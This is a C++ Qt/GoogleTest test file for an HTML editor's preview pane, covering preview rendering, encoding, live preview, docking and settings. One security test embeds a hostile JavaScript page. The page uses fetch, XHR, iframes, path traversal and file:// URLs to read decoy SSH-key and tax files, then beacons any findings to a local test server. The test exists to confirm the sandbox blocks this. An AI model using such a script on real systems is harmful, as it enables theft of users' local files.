#include "app/TFormGlyphon.h"
#include "app/TTBToolWindowSlider.h"
#include "tests/support/WaitFor.h"

#include "common/AppHelpers.h"
#include "common/CommandLine.h"
#include "common/DockLayout.h"
#include "common/HtmlPreview.h"
#include "common/Paths.h"
#include "common/SettingsIni.h"
#include "common/TEmbeddedWB.h"
#include "editor/TGlyphEditView.h"
#include "net/HttpTestServer.h"
#include "support/BrowserScript.h"
#include "support/FakeWebBrowser.h"
#include "support/ScriptedPrompts.h"
#include "support/TestEnvironment.h"
#include "support/UrlRecorder.h"

#include <QApplication>
#include <QDir>
#include <QDirIterator>
#include <QDockWidget>
#include <QFile>
#include <QImage>
#include <QLabel>
#include <QListWidget>
#include <QMenu>
#include <QMouseEvent>
#include <QQuickWindow>
#include <QSignalSpy>
#include <QTabWidget>
#include <QTemporaryDir>
#include <QTest>
#include <QThreadPool>
#include <gtest/gtest.h>
#include <memory>
#include <sched.h>

namespace {

constexpr int Deadline = 30000;

QString Write(const QString& path, const QByteArray& bytes) {
    QDir().mkpath(QFileInfo(path).absolutePath());
    QFile file(path);
    file.open(QIODevice::WriteOnly);
    file.write(bytes);
    return path;
}

QByteArray ReadAll(const QString& path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
}

// How many web engine processes this one has started, and how many of them may run on its first
// processor.
std::pair<int, int> EngineProcessesOnFirstCore() {
    cpu_set_t own;
    sched_getaffinity(0, sizeof own, &own);
    int first = 0;
    while (!CPU_ISSET(first, &own))
        ++first;
    QStringList pending{QString::number(QCoreApplication::applicationPid())};
    std::pair<int, int> counts;
    while (!pending.isEmpty()) {
        const QString pid = pending.takeLast();
        for (const QString& tid :
             QDir("/proc/" + pid + "/task").entryList(QDir::Dirs | QDir::NoDotAndDotDot))
            for (QByteArray child :
                 ReadAll(QString("/proc/%1/task/%2/children").arg(pid, tid)).split(' ')) {
                child = child.trimmed();
                if (!ReadAll("/proc/" + child + "/comm").startsWith("QtWebEngine"))
                    continue;
                pending.append(QString::fromLatin1(child));
                cpu_set_t cores;
                ++counts.first;
                counts.second += sched_getaffinity(child.toInt(), sizeof cores, &cores) == 0 &&
                                 CPU_ISSET(first, &cores);
            }
    }
    return counts;
}

// Drags Slider by the offset with the left button held, as the mouse would.
void DragSlider(TTBToolWindowSlider* slider, QPoint offset) {
    const QPoint start = slider->mapToGlobal(QPoint(1, 1));
    const QPoint end = start + offset;
    QMouseEvent press(QEvent::MouseButtonPress, QPointF(1, 1), QPointF(start), Qt::LeftButton,
                      Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(slider, &press);
    QMouseEvent move(QEvent::MouseMove, QPointF(slider->mapFromGlobal(end)), QPointF(end),
                     Qt::NoButton, Qt::LeftButton, Qt::NoModifier);
    QApplication::sendEvent(slider, &move);
    QMouseEvent release(QEvent::MouseButtonRelease, QPointF(slider->mapFromGlobal(end)),
                        QPointF(end), Qt::LeftButton, Qt::NoButton, Qt::NoModifier);
    QApplication::sendEvent(slider, &release);
}

std::unique_ptr<TFormGlyphon> StartWith(const QStringList& args) {
    SetCommandLineArgs(QStringList{"glyphon"} + args);
    auto form = std::make_unique<TFormGlyphon>();
    form->resize(900, 800);
    form->show();
    EXPECT_TRUE(QTest::qWaitForWindowExposed(form.get()));
    EXPECT_TRUE(QTest::qWaitFor([&] { return form->FirstPaintDone(); }, 5000));
    EXPECT_TRUE(QTest::qWaitFor([&] { return !form->DocumentFileName.isEmpty(); }, 5000));
    return form;
}

class PreviewPane : public ::testing::Test {
protected:
    void TearDown() override {
        for (int n = 1; n <= 3; ++n) {
            QDir(PreviewFilePath(n)).removeRecursively();
            QFile::remove(PreviewFilePath(n));
        }
        QFile::remove(TestEnvironment::SettingsPath());
    }

    QTemporaryDir dir_;
};

TEST_F(PreviewPane, QuickPreviewShowsTheTextWithItsRelativeImage) {
    QImage picture(8, 8, QImage::Format_RGB32);
    picture.fill(Qt::blue);
    QDir().mkpath(dir_.filePath("img"));
    ASSERT_TRUE(picture.save(dir_.filePath("img/pic.png"), "PNG"));
    const QString page =
        Write(dir_.filePath("page.html"), "#define WHO world\n<p id=t>Hello WHO from $FileName$</p>"
                                          "<img id=pic src=\"img/pic.png\">\n");
    // The pane was last left closed as a strip.
    TDockLayout strip;
    strip.Visible = false;
    strip.DockedTo = strip.LastDock = "TBDockBot";
    strip.ClientHeight = 40;
    WriteDockLayout(SettingsIni(), "TFormGlyphonTBWindowPreview", strip);
    auto form = StartWith({page});
    // The hidden pane has its start page waiting, and no web engine yet.
    EXPECT_FALSE(form->EmbeddedWB->EngineStarted());
    EXPECT_EQ(form->EmbeddedWB->Location(),
              QUrl(TEmbeddedWB::LocalUrl(ProgramFilePath("Services.htm"))));

    form->ClickMenuItem(form->MIQuickPreview);
    EXPECT_TRUE(form->TBWindowPreview->isVisible());
    EXPECT_EQ(form->PageControl->currentWidget(), form->TSWebBrowser);
    EXPECT_TRUE(ReadAll(PreviewFilePath(1))
                    .startsWith("<HTML><BASE href=\"" + TEmbeddedWB::BaseUrl(page).toUtf8()));
    ASSERT_TRUE(form->EmbeddedWB->EngineStarted());
    ASSERT_SOON(
        PageReports(*form->EmbeddedWB,
                    "document.getElementById('t').textContent == 'Hello world from page.html' "
                    "&& document.getElementById('pic').naturalWidth == 8"),
        Deadline);
    EXPECT_EQ(form->focusWidget(), form->GlyphEditView);
    EXPECT_TRUE(QTest::qWaitFor([&] { return form->TBWindowPreviewClient->height() >= 150; }));
    // OpenGL under Xvfb draws on the processor: the browser draws in software, so that the
    // window is not composited through OpenGL at every keystroke.
    EXPECT_EQ(QQuickWindow::sceneGraphBackend(), "software");
    EXPECT_EQ(form->windowHandle()->surfaceType(), QSurface::RasterSurface);

    // The next preview comes under the same address, never from a cache.
    form->GlyphEdit.SetText("<p id=t>Changed</p>");
    form->ClickMenuItem(form->MIQuickPreview);
    ASSERT_SOON(
        PageReports(*form->EmbeddedWB, "document.getElementById('t').textContent == 'Changed'"),
        Deadline);
}

// The preview holds the page's own bytes, so that a page shows as the encoding it declares says.
TEST_F(PreviewPane, QuickPreviewWritesThePageInTheDocumentsEncoding) {
    const QByteArray bytes = "<meta charset=iso-8859-1><p id=t>caf\xe9 \x80</p>\r\n";
    const QString page = Write(dir_.filePath("latin.htm"), bytes);
    auto form = StartWith({page});
    form->ClickMenuItem(form->MIQuickPreview);
    EXPECT_EQ(ReadAll(PreviewFilePath(1)), "<HTML><BASE href=\"" +
                                               TEmbeddedWB::BaseUrl(page).toUtf8() + "\">" + bytes +
                                               "</HTML>");
    ASSERT_SOON(PageReports(*form->EmbeddedWB, "document.getElementById('t').textContent == "
                                               "'caf\\u00e9 \\u20ac'"),
                Deadline);
}

TEST_F(PreviewPane, QuickPreviewOfAnUntitledDocumentKeepsItsEmptyMacros) {
    auto form = StartWith({});
    form->GlyphEdit.SetText("<p>$FilePath$$FileName$</p>");
    form->ClickMenuItem(form->MIQuickPreview);
    EXPECT_EQ(ReadAll(PreviewFilePath(1)),
              "<HTML><BASE href=\"Untitled.htm\"><p>$FilePath$Untitled.htm</p>\r\n</HTML>");
}

TEST_F(PreviewPane, AFailedQuickPreviewShowsTheErrorAndKeepsThePage) {
    const struct {
        const char* Text;
        int HeldFiles;
        QString Error;
    } cases[] = {
        {"#include \"none.inc\"", 0, "Cannot open file \"" + dir_.filePath("none.inc") + "\""},
        {"<p>x</p>", 3, "Unable to write to " + PreviewFilePath(3)},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.Text);
        const QString page = Write(dir_.filePath("page.htm"), c.Text);
        for (int n = 1; n <= c.HeldFiles; ++n)
            QDir().mkpath(PreviewFilePath(n));
        auto form = StartWith({page});
        const QUrl before = form->EmbeddedWB->Location();
        ScriptedPrompts prompts;
        prompts.AnswerButton(QMessageBox::Ok);
        form->ClickMenuItem(form->MIQuickPreview);
        ASSERT_EQ(prompts.Records().size(), 1);
        EXPECT_TRUE(prompts.Records()[0].Text.startsWith(c.Error))
            << prompts.Records()[0].Text.toStdString();
        EXPECT_EQ(form->EmbeddedWB->Location(), before);
        EXPECT_FALSE(QFileInfo(PreviewFilePath(1)).isFile()) << "nothing is written";
        TearDown();
    }
}

// The saved file goes to a web browser, never to the handler of HTML files (which may be this
// program): the desktop's default browser, else x-www-browser, else a message.
TEST_F(PreviewPane, PreviewInBrowserShowsTheSavedFileInAWebBrowser) {
    const QString saved = Write(dir_.filePath("saved.htm"), "<p>on disk</p>");
    // A file of the untitled name in the working folder is not the untitled document.
    Write(dir_.filePath("Untitled.htm"), "<p>stray</p>");
    const QString workingFolder = QDir::currentPath();
    QDir::setCurrent(dir_.path());
    const struct {
        QString File;
        FakeWebBrowser::TKind Browsers;
        QString Started; // the browser's command line
        QString Message;
    } cases[] = {
        {{},
         FakeWebBrowser::DefaultEntry,
         {},
         "You must save this file before you can preview it."},
        {saved,
         FakeWebBrowser::DefaultEntry,
         "fakebrowser --new-window " + QUrl::fromLocalFile(saved).toString(),
         {}},
        {saved, FakeWebBrowser::XWwwBrowser, "x-www-browser " + saved, {}},
        {saved,
         FakeWebBrowser::None,
         {},
         "No web browser was found to show \"" + saved +
             "\".\r\rInstall one, or make one the default web browser of your desktop."},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.Started.toStdString() + c.Message.toStdString());
        auto form = StartWith(c.File.isEmpty() ? QStringList{} : QStringList{c.File});
        UrlRecorder handlers;
        FakeWebBrowser browser(c.Browsers);
        ScriptedPrompts prompts;
        if (c.File.isEmpty())
            prompts.CancelFile(); // Save As
        if (!c.Message.isEmpty())
            prompts.AnswerButton(QMessageBox::Ok);
        form->ClickMenuItem(form->TBPreview);
        EXPECT_TRUE(handlers.Urls().isEmpty());
        EXPECT_EQ(prompts.Records().isEmpty() ? QString() : prompts.Records().last().Text,
                  c.Message);
        if (!c.Started.isEmpty()) {
            EXPECT_EQ(browser.Started(), QStringList{c.Started});
        }
    }
    QDir::setCurrent(workingFolder);
}

// A hostile page in the user's home, previewed with its scripts on: it gets what its site holds
// for showing (style sheet, image, included header), but none of its scripts reads a file, and
// no "#include" brings a file from outside its site, or a hidden one, into the preview.
TEST_F(PreviewPane, APreviewedPageReadsNoFileAndIncludesOnlyFromItsSite) {
    const QString home = QDir::homePath();
    Write(home + "/.ssh/id_test", "SSH-KEY-4711");
    Write(home + "/Documents/taxes.txt", "TAX-RETURN-4712");
    Write(home + "/Sites/proj/sub/notes.txt", "SITE-NOTE-4713");
    Write(home + "/Sites/proj/css/site.css", "#t { color: rgb(0, 128, 0) }");
    Write(home + "/Sites/proj/header.inc", "<p id=hdr>header</p>");
    QImage picture(8, 8, QImage::Format_RGB32);
    picture.fill(Qt::blue);
    QDir().mkpath(home + "/Sites/proj/img");
    ASSERT_TRUE(picture.save(home + "/Sites/proj/img/logo.png", "PNG"));
    QDir().mkpath(dir_.filePath("www"));
    HttpTestServer server(dir_.filePath("www"));
    ASSERT_TRUE(server.Started());
    // Tries fetch, XHR and a frame on each target and sends anything secret it reads; then tries
    // to take the top frame to a secret. Framed, its own file tries the same from its own origin.
    const QString script = R"(<script>
var server = "SERVER", sent = 0, me = window === top ? "" : "framed-";
function send(w) { new Image().src = server + me + w + "?" + (sent++); }
function leak(i, t) {
  var at = (t || "").search(/47(11|12|13)/);
  if (at >= 0) send("leak-" + i + "-" + encodeURIComponent(t.slice(Math.max(0, at - 12), at + 4)));
}
send("ran");
leak("page", document.documentElement.innerHTML);
var base = document.baseURI, pending = 0, finished = false;
var targets = [new URL("../../../.ssh/id_test", base).href, new URL("../../../Documents/taxes.txt", base).href,
  new URL("notes.txt", base).href, new URL(base).origin + "/..%2F..%2F.ssh%2Fid_test",
  location.origin + "/notes.txt", "file://HOME/.ssh/id_test"];
if (!me) targets.push(base);
// The top waits for its framed copy too.
var waiting = me ? 1 : 2;
function part() { if (--waiting === 0) finish(); }
addEventListener("message", function (e) { if (e.data === "framed-done") part(); });
function finish() {
  if (finished) return;
  finished = true; send("done");
  if (me) parent.postMessage("framed-done", "*");
  else setTimeout(function () { location.href = targets[0]; }, 100);
}
function settle() { if (--pending === 0) part(); }
targets.forEach(function (t, i) {
  pending += 3;
  fetch(t).then(function (r) { return r.text(); }).then(function (x) { leak(i, x); }, function () {}).finally(settle);
  var x = new XMLHttpRequest();
  try { x.open("GET", t); x.onload = function () { leak(i, x.responseText); settle(); }; x.onerror = settle; x.send(); } catch (e) { settle(); }
  // A refused frame never loads: it counts as settled after a while.
  var f = document.createElement("iframe"), once = false;
  function frameSettled() { if (!once) { once = true; settle(); } }
  f.onload = function () { try { leak(i, f.contentDocument.documentElement.innerText); } catch (e) {} frameSettled(); };
  setTimeout(frameSettled, 3000);
  f.src = t;
  document.body.appendChild(f);
});
setTimeout(finish, 20000);
</script>)";
    const QString attack =
        QString(script).replace("SERVER", server.Url("report/")).replace("HOME", home);
    const struct {
        QString Page;
        QString Include;
        QString Refusal; // empty: the preview shows
    } cases[] = {
        {"Sites/proj/sub/page.htm", "../header.inc", {}},
        {"Downloads/page.htm", "../Documents/taxes.txt",
         "Cannot include \"" + home + "/Documents/taxes.txt\": it lies outside the site " + home +
             "/Downloads."},
        {"Sites/proj/keys.htm", "../../.ssh/id_test",
         "Cannot include \"" + home + "/.ssh/id_test\": it lies outside the site " + home +
             "/Sites."},
    };
    for (const auto& c : cases) {
        SCOPED_TRACE(c.Page.toStdString());
        const QString page = Write(
            home + '/' + c.Page, ("#include \"" + c.Include +
                                  "\"\n<link rel=stylesheet href=\"../css/site.css\"><p id=t>t</p>"
                                  "<img id=logo src=\"../img/logo.png\"><p id=body>x</p>\n" +
                                  attack)
                                     .toUtf8());
        auto form = StartWith({page});
        ScriptedPrompts prompts;
        if (!c.Refusal.isEmpty())
            prompts.AnswerButton(QMessageBox::Ok);
        QSignalSpy loads(form->EmbeddedWB, &TEmbeddedWB::DocumentComplete);
        form->ClickMenuItem(form->MIQuickPreview);
        EXPECT_EQ(prompts.Records().size(), c.Refusal.isEmpty() ? 0 : 1);
        if (!prompts.Records().isEmpty()) {
            EXPECT_EQ(prompts.Records()[0].Text, c.Refusal);
            continue;
        }
        const qsizetype done = server.Output().count("REPORT /report/done");
        ASSERT_TRUE(QTest::qWaitFor(
            [&] { return server.Output().count("REPORT /report/done") > done; }, Deadline))
            << server.Output().toStdString();
        EXPECT_TRUE(PageReports(*form->EmbeddedWB,
                                "getComputedStyle(document.getElementById('t')).color == "
                                "'rgb(0, 128, 0)' && document.getElementById('hdr') != null && "
                                "document.getElementById('logo').naturalWidth == 8"));
        // The top frame stays away from the secret it was sent to.
        const qsizetype before = loads.size();
        (void)QTest::qWaitFor([&] { return loads.size() > before; }, 3000);
        EXPECT_TRUE(
            PageReports(*form->EmbeddedWB, "!/SSH-KEY/.test(document.documentElement.innerText)"));
    }
    const QString output = server.Output();
    EXPECT_TRUE(output.contains("REPORT /report/ran")) << output.toStdString();
    for (const char* secret : {"SSH-KEY", "TAX-RETURN", "SITE-NOTE", "/report/leak"})
        EXPECT_FALSE(output.contains(secret)) << secret << output.toStdString();
    QDirIterator files(qEnvironmentVariable("XDG_CACHE_HOME"), QDir::Files | QDir::Hidden,
                       QDirIterator::Subdirectories);
    while (files.hasNext()) {
        const QByteArray bytes = ReadAll(files.next());
        EXPECT_FALSE(bytes.contains("SSH-KEY") || bytes.contains("TAX-RETURN"))
            << files.filePath().toStdString();
    }
}

// With Live Preview on, the preview follows the typing once it pauses: one load for a burst of
// keys, laid out off the processor left to the window, the page where the user had scrolled it, the
// keyboard left in the editor (even by a page that asks for it), and a text that cannot show yet
// said in the status bar, not in a box.
TEST_F(PreviewPane, LivePreviewFollowsTheTypingKeepingScrollAndFocus) {
    const QString page =
        Write(dir_.filePath("live.htm"), "<p id=t>start</p><input autofocus>"
                                         "<div style=\"height:5000px\"></div><p>end</p>\n");
    {
        auto form = StartWith({page});
        EXPECT_FALSE(form->MILivePreview->isChecked());
        form->ClickMenuItem(form->MILivePreview);
    }
    EXPECT_TRUE(SettingsIni().ReadBool("TFormGlyphon", "LivePreview"));
    auto form = StartWith({page});
    ASSERT_TRUE(form->MILivePreview->isChecked());
    // Showing the pane shows the document, not the start page.
    form->ClickMenuItem(form->MIViewQuickPreview);
    // Whether the page shows Text, scrolled down by Y pixels.
    const auto shows = [&](const QString& text, int y) {
        return PageReports(*form->EmbeddedWB,
                           QString("(document.getElementById('t') || {}).textContent == '%1' && "
                                   "window.scrollY == %2")
                               .arg(text)
                               .arg(y));
    };
    ASSERT_TRUE(QTest::qWaitFor([&] { return shows("start", 0); }, Deadline));
    // The web engine lays pages out on the other processors, leaving one to the typing.
    cpu_set_t own;
    sched_getaffinity(0, sizeof own, &own);
    EXPECT_TRUE(QTest::qWaitFor(
        [&] {
            const auto [engines, onFirstCore] = EngineProcessesOnFirstCore();
            return engines > 0 && onFirstCore == (CPU_COUNT(&own) < 2 ? engines : 0);
        },
        Deadline));
    form->EmbeddedWB->EvaluateScript("window.scrollTo(0, 1200)", {});
    ASSERT_TRUE(QTest::qWaitFor([&] { return form->EmbeddedWB->ScrollPosition().y() == 1200.0; },
                                Deadline));

    form->GlyphEditView->setFocus();
    form->GlyphEdit.SetCaretXY({14, 1});
    QSignalSpy loads(form->EmbeddedWB, &TEmbeddedWB::DocumentComplete);
    QTest::keyClicks(form->GlyphEditView, "ed!");
    EXPECT_TRUE(form->LivePreviewTimer->isActive());
    ASSERT_TRUE(QTest::qWaitFor([&] { return shows("started!", 1200); }, Deadline));
    EXPECT_EQ(loads.size(), 1);
    EXPECT_FALSE(form->LivePreviewTimer->isActive());
    EXPECT_EQ(form->focusWidget(), form->GlyphEditView);

    // A refresh due while the last one still loads takes its place and keeps its position.
    form->GlyphEdit.SetCaretXY({9, 1});
    QTest::keyClicks(form->GlyphEditView, "1");
    form->LivePreviewTimerTimer();
    QTest::keyClicks(form->GlyphEditView, "2");
    form->LivePreviewTimerTimer();
    EXPECT_TRUE(QTest::qWaitFor([&] { return shows("12started!", 1200); }, Deadline));

    // A minimised window builds no page while it is minimised, and shows the text once it is
    // shown again.
    form->showMinimized();
    ASSERT_TRUE(form->isMinimized());
    const qsizetype loadsBefore = loads.size();
    QTest::keyClicks(form->GlyphEditView, "3");
    QTest::qWait(TFormGlyphon::LivePreviewDelayMs + 1000);
    EXPECT_EQ(loads.size(), loadsBefore);
    form->showNormal();
    ASSERT_SOON(shows("123started!", 1200), Deadline);
    form->GlyphEditView->setFocus();

    // Typing while a page is still being built (here a long include) starts a newer one: the
    // newest text loads once, and the older page is never written or shown after it.
    Write(dir_.filePath("filler.inc"), QByteArray("<p>filler</p>\n").repeated(500000));
    form->GlyphEdit.SetCaretXY({1, 1});
    QTest::keyClicks(form->GlyphEditView, "#include \"filler.inc\"\r");
    const qsizetype loadsBeforeInclude = loads.size();
    form->LivePreviewTimerTimer();
    form->GlyphEdit.SetCaretXY({1, 1});
    QTest::keyClicks(form->GlyphEditView, "x");
    form->LivePreviewTimerTimer();
    const auto showsNewest = [&] {
        return PageReports(*form->EmbeddedWB,
                           "document.body.textContent.startsWith('x#include') && "
                           "document.getElementById('t').textContent == '123started!'");
    };
    ASSERT_SOON(showsNewest(), Deadline);
    ASSERT_TRUE(QThreadPool::globalInstance()->waitForDone(Deadline));
    EXPECT_TRUE(ReadAll(PreviewFilePath(1)).contains("x#include"));
    EXPECT_FALSE(QTest::qWaitFor([&] { return loads.size() > loadsBeforeInclude + 1; }, 1000));
    EXPECT_TRUE(showsNewest());
    EXPECT_EQ(form->focusWidget(), form->GlyphEditView);

    ScriptedPrompts prompts;
    const QUrl shown = form->EmbeddedWB->Location();
    form->GlyphEdit.SetCaretXY({1, 1});
    QTest::keyClicks(form->GlyphEditView, "#include \"none.inc\"\r");
    EXPECT_TRUE(QTest::qWaitFor(
        [&] {
            return StatusPanel(form->StatusBar, 0)
                ->text()
                .startsWith("Cannot open file \"" + dir_.filePath("none.inc") + "\"");
        },
        Deadline));
    EXPECT_TRUE(prompts.Records().isEmpty());
    EXPECT_EQ(form->focusWidget(), form->GlyphEditView);
    EXPECT_EQ(form->EmbeddedWB->Location(), shown);
}

TEST_F(PreviewPane, SliderResizesWithinTheLimitsAndFollowsTheDock) {
    auto form = StartWith({});
    form->ClickMenuItem(form->MIViewQuickPreview);
    ASSERT_TRUE(form->TBWindowPreview->isVisible());
    TTBToolWindowSlider* slider = form->TBWindowPreviewSlider;
    EXPECT_EQ(slider->Edge(), TSliderEdge::Top);
    QWidget* client = form->TBWindowPreviewClient;
    const struct {
        int DeltaY;
        int Height;
    } drags[] = {{-2000, 400}, {100, 300}, {2000, 40}, {-60, 100}};
    for (const auto& d : drags) {
        DragSlider(slider, {0, d.DeltaY});
        ASSERT_SOON_EQ(client->height(), d.Height, 5000);
    }

    form->TBWindowPreview->setFloating(true);
    EXPECT_TRUE(slider->isHidden());
    ASSERT_SOON_EQ(client->width(), 640, 5000);
    form->addDockWidget(Qt::TopDockWidgetArea, form->TBWindowPreview);
    form->TBWindowPreview->setFloating(false);
    EXPECT_FALSE(slider->isHidden());
    EXPECT_EQ(slider->Edge(), TSliderEdge::Bottom);
    const int before = client->height();
    DragSlider(slider, {0, -50});
    ASSERT_SOON_EQ(client->height(), before - 50, 5000);
}

TEST_F(PreviewPane, VisibilityDockAndHeightAreKeptBetweenRuns) {
    const QString section = "TFormGlyphonTBWindowPreview";
    // A run that never shows the pane leaves its height as it stood: the client of a pane
    // never laid out has no height of the user's.
    { auto unshown = StartWith({}); }
    EXPECT_EQ(SettingsIni().ReadInteger(section, "ClientHeight"), 200);
    {
        auto form = StartWith({});
        form->ClickMenuItem(form->MIViewQuickPreview);
        form->addDockWidget(Qt::TopDockWidgetArea, form->TBWindowPreview);
        DragSlider(form->TBWindowPreviewSlider, {0, 2000});
        ASSERT_SOON_EQ(form->TBWindowPreviewClient->height(), 400, 5000);
    }
    EXPECT_EQ(SettingsIni().ReadInteger(section, "Rev"), 2000);
    EXPECT_TRUE(SettingsIni().ReadBool(section, "Visible"));
    EXPECT_EQ(SettingsIni().ReadString(section, "DockedTo"), "TBDockTop");
    EXPECT_EQ(SettingsIni().ReadInteger(section, "ClientHeight"), 400);

    auto form = StartWith({});
    EXPECT_TRUE(form->TBWindowPreview->isVisible());
    EXPECT_EQ(form->dockWidgetArea(form->TBWindowPreview), Qt::TopDockWidgetArea);
    ASSERT_SOON_EQ(form->TBWindowPreviewClient->height(), 400, 5000);
    emit form->MIView->aboutToShow();
    EXPECT_TRUE(form->MIViewQuickPreview->isChecked());
    form->ClickMenuItem(form->MIViewQuickPreview);
    EXPECT_FALSE(form->TBWindowPreview->isVisible());
}

TEST_F(PreviewPane, NewAndOpenHideTheMessagesTab) {
    const QString page = Write(dir_.filePath("page.htm"), "<p>x</p>");
    auto form = StartWith({});
    const int messages = form->PageControl->indexOf(form->TSErrors);
    EXPECT_FALSE(form->PageControl->isTabVisible(messages));
    for (const auto& command : {std::function<void()>([&] { form->ClickMenuItem(form->MINew); }),
                                std::function<void()>([&] { form->OpenDocument(page, true); })}) {
        form->GlyphEdit.SetText("<p>x</p>"); // New is offered for a document with text
        form->GlyphEdit.SetModified(false);
        form->SetMessagesTabVisible(true);
        command();
        EXPECT_FALSE(form->PageControl->isTabVisible(messages));
    }
}

} // namespace
